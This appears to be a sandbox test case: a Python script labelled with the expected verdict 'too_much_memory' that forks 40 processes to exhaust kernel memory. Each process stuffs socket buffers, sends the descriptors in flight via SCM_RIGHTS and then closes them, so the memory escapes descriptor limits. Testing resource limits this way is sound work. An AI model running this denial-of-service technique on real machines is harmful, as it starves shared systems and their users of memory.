# Sends full sockets through other sockets, and closes them: they are open nowhere, and keep their memory.
# verdict: too_much_memory
import array
import os
import socket
import time


def full_pair():
    pair = socket.socketpair()
    for end in pair:
        end.setblocking(False)
        try:
            while True:
                end.send(b"x" * 65536)
        except BlockingIOError:
            pass
    return pair


def fill():
    kept = []
    try:
        while True:
            kept.append(socket.socketpair())
            for _ in range(20):
                first, second = full_pair()
                fds = array.array("i", [first.fileno(), second.fileno()])
                try:
                    kept[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
                except OSError:
                    kept.append((first, second))  # too many are on their way
                else:
                    first.close()
                    second.close()
    except OSError:
        time.sleep(600)


def run_all(jobs):
    for _ in range(40):
        if os.fork() == 0:
            fill()
    time.sleep(600)
